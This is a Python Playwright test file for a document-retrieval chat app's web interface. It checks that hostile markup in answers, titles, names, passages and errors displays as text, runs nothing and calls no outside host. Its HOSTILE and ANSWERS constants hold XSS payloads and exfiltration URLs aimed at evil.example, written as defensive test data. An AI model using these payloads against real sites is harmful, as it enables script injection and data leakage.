"""Text from people, documents and models is shown as text: nothing in it runs, and nothing in it calls outside."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from django.contrib.auth.models import Group
from playwright.sync_api import expect

from retrieval.models import Document, Passage
from tests.browser.double import CITATIONS, PASSAGE, SOURCES, TURN, Double, answered, opened, stored
from tests.browser.states import handbook
from tests.browser.test_documents_page import doc, stage

HOSTILE = (
    "<script>window.fired=1</script><img src=x onerror='window.fired=1'> ![leak](https://evil.example/?q=secret) "
    "[click](javascript:window.fired=1) <svg onload='window.fired=1'></svg> [1]"
)
ANSWERS = [
    "![leak](https://evil.example/a.png)",
    "![leak][1]\n\n[1]: https://evil.example/b.png",
    "[![leak](https://evil.example/c.png)](javascript:window.fired=1)",
    "<img src='https://evil.example/d.png' onerror='window.fired=1'>",
    "<style>body { background: url(https://evil.example/e.png) }</style>",
    "<link rel=stylesheet href=https://evil.example/f.css><iframe src=https://evil.example/g></iframe>",
    "<form action=https://evil.example/h><button autofocus onfocus=window.fired=1>Sign in</button></form>",
    "[click](&#106;avascript:window.fired=1) [click](JaVaScRiPt:window.fired=1)",
    "[click](data:text/html,<script>1</script>)",
    "<javascript:window.fired=1> [click](vbscript:window.fired=1)",
    "```html\n<script>window.fired=1</script><img src=https://evil.example/i.png>\n```",
    "| <img src=x onerror=window.fired=1> |\n|---|\n| <script>window.fired=1</script> |",
    '[title](https://example.com/ "x" onmouseover="window.fired=1")',
    "# <details open ontoggle=window.fired=1>\n<svg><script>window.fired=1</script></svg><math><mtext></mtext></math>",
]


@pytest.fixture
def calls(page: Any, live_server: Any) -> Iterator[list[str]]:
    """What was requested of any host but our own; at the end, that nothing was and nothing ran."""
    outside: list[str] = []
    page.on("request", lambda request: request.url.startswith(live_server.url) or outside.append(request.url))
    yield outside
    assert page.evaluate("window.fired") is None
    assert outside == []
    assert page.problems == []


def test_an_answer_of_any_markup_runs_nothing_and_calls_nobody(page: Any, double: Double, calls: list[str]) -> None:
    opened(page, double, answered("\n\n".join(ANSWERS)))
    prose = page.locator(".assistant .prose")
    expect(prose).to_contain_text("onfocus=window.fired=1")
    assert (
        prose.locator("img, script, style, link, iframe, form, input, svg, math, details, object, embed").count() == 0
    )
    links = prose.locator("a").evaluate_all("nodes => nodes.map((one) => one.getAttribute('href'))")
    assert [one for one in links if one and not one.startswith(("https://", "http://", "mailto:"))] == []
    for attribute in ("style", "onmouseover", "onerror", "id", "name"):
        assert prose.locator(f"[{attribute}]").count() == 0
    for link in prose.locator("a").all():
        link.dispatch_event("mouseover")


def test_links_of_an_answer_open_apart_and_give_nothing_away(page: Any, double: Double, calls: list[str]) -> None:
    opened(page, double, answered("See [the site](https://example.com/)."))
    link = page.get_by_role("link", name="the site")
    expect(link).to_have_attribute("rel", "noopener noreferrer nofollow")
    expect(link).to_have_attribute("target", "_blank")


def test_a_hostile_title_is_text_in_the_list_the_head_and_the_dialogs(
    page: Any, double: Double, calls: list[str]
) -> None:
    stored(double, answered("Fine."))
    double.detail["title"] = double.conversations[0]["title"] = HOSTILE
    page.goto("/")
    page.locator("li[data-conversation] a").first.click()
    expect(page.locator("h1")).to_have_text(HOSTILE)
    _choose(page, "Delete…")
    expect(page.get_by_role("dialog")).to_contain_text("window.fired=1")
    page.keyboard.press("Escape")
    _choose(page, "Rename…")
    expect(page.get_by_role("dialog").get_by_label("Name")).to_have_value(HOSTILE)


def _choose(page: Any, name: str) -> None:
    """From the menu of the first conversation."""
    page.locator("li[data-conversation]").first.get_by_role("button").last.focus()
    page.keyboard.press("Enter")
    page.get_by_role("menuitem", name=name).click()


def test_hostile_engines_and_errors_are_text(page: Any, double: Double, calls: list[str]) -> None:
    double.engines = {"answering": "", "engines": [
        {"name": f"api: {HOSTILE}", "outside": True, "problem": HOSTILE, "advice": f"`{HOSTILE}`"},
    ]}  # fmt: skip
    page.goto("/")
    double.ask()
    double.frame("error", code=HOSTILE, message=HOSTILE, advice=HOSTILE, retryable=True)
    double.finish("failed", engine=HOSTILE)
    expect(page.locator(".notice.problem")).to_contain_text("window.fired=1")
    page.get_by_role("button", name="Models").click()
    expect(page.get_by_role("dialog").locator(".engine code")).to_contain_text("window.fired=1")


def test_a_hostile_answer_title_name_and_passage_fire_nothing(page: Any, double: Double, calls: list[str]) -> None:
    double.passage = {**PASSAGE, "text": HOSTILE, "heading": HOSTILE, "download": "javascript:window.fired=1",
                      "document": {**PASSAGE["document"], "name": HOSTILE, "title": HOSTILE}}  # fmt: skip
    double.conversations = [{"id": TURN, "title": HOSTILE, "updated_at": "2026-11-21T00:00:00Z"}]
    page.goto("/")
    double.ask(HOSTILE)
    double.frame("sources", sources=[{**SOURCES[0], "document": {"id": "x", "name": HOSTILE}, "heading": HOSTILE}])
    double.frame("writer", engine=HOSTILE, note=HOSTILE)
    double.frame("text", text=HOSTILE)
    double.frame("citations", citations=[{**CITATIONS[0], "quote": HOSTILE}])
    double.frame("done", status="complete", engine=HOSTILE, usage={}, timings={}, title=HOSTILE)
    page.locator(".cite").first.click()
    expect(page.locator("#source-panel .passage")).to_contain_text("window.fired")
    assert page.locator(".message img, .message script, .message svg[onload], .source-panel img").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0
    assert page.problems == []


def test_a_refusal_of_hostile_words_is_text(page: Any, double: Double, calls: list[str]) -> None:
    double.refusal = {"code": HOSTILE, "message": HOSTILE, "advice": HOSTILE, "retryable": True}
    page.goto("/")
    page.get_by_label("Your question").fill(HOSTILE)
    page.keyboard.press("Enter")
    expect(page.locator("#notice")).to_contain_text("window.fired=1")
    expect(page.get_by_label("Your question")).to_have_value(HOSTILE)


def test_a_hostile_neighbourhood_of_a_passage_is_text(page: Any, double: Double, calls: list[str]) -> None:
    around = [{"id": 9, "text": HOSTILE, "page": 1}]
    file = {**PASSAGE["document"], "title": "", "name": HOSTILE, "collection": HOSTILE}
    double.passage = {**PASSAGE, "before": around, "after": around, "page": None, "locator": HOSTILE, "document": file}
    opened(page, double, answered() | {"sources": SOURCES, "citations": CITATIONS})
    page.locator(".cite").first.click()
    expect(page.locator("#source-panel .around").last).to_have_text(HOSTILE)
    expect(page.locator("#source-panel .facts")).to_contain_text("onerror='window.fired=1'")


def test_hostile_names_of_people_groups_and_documents_are_text(
    page: Any, double: Double, person: Any, calls: list[str]
) -> None:
    person.username = person.first_name = "<img src=x onerror=window.fired=1>"
    person.save()
    Group.objects.create(name="<svg onload='window.fired=1'>")
    handbook()
    Document.objects.update(title="<b>About</b>")
    Passage.objects.update(heading="<img src=x onerror=window.fired=1>")
    page.goto("/")
    expect(page.locator(".person-name")).to_have_text(person.username)
    expect(page.locator(".example").first).to_contain_text(person.username)
    stage(double, [])
    page.goto("/documents/")
    page.get_by_role("button", name="New collection").click()
    expect(page.get_by_role("dialog")).to_contain_text("<svg onload='window.fired=1'>")
    Document.objects.all().delete()
    person.is_superuser = False
    person.save()
    type(person).objects.create_superuser("<svg onload=window.fired=1>")
    page.goto("/")
    expect(page.locator("#empty")).to_contain_text("Ask <svg onload=window.fired=1> to share some")


def test_hostile_collections_files_and_refusals_are_text(page: Any, double: Double, calls: list[str]) -> None:
    stage(double, [doc(1, HOSTILE, "failed", error=HOSTILE, warnings=[{"message": HOSTILE}])])
    double.collections[0] |= {"name": HOSTILE, "everyone": False, "readers": [HOSTILE]}
    error = {"error": {"message": HOSTILE, "advice": HOSTILE}}
    double.receipt = {"status": 400, "json": error}
    page.goto("/documents/")
    expect(page.locator("h1")).to_have_text(HOSTILE)
    expect(page.locator("#readers")).to_have_text(f"Readers: {HOSTILE}")
    expect(page.locator("#collections button").first).to_contain_text(HOSTILE)
    page.locator("#files").set_input_files({"name": HOSTILE, "mimeType": "text/plain", "buffer": b"words"})
    expect(page.locator(".row-problem")).to_have_count(2)
    expect(page.locator(".row-problem").first).to_contain_text(HOSTILE)
    page.problems.clear()  # the console names the 400
    page.locator(".row-buttons button").last.click()
    expect(page.get_by_role("dialog")).to_contain_text(HOSTILE)
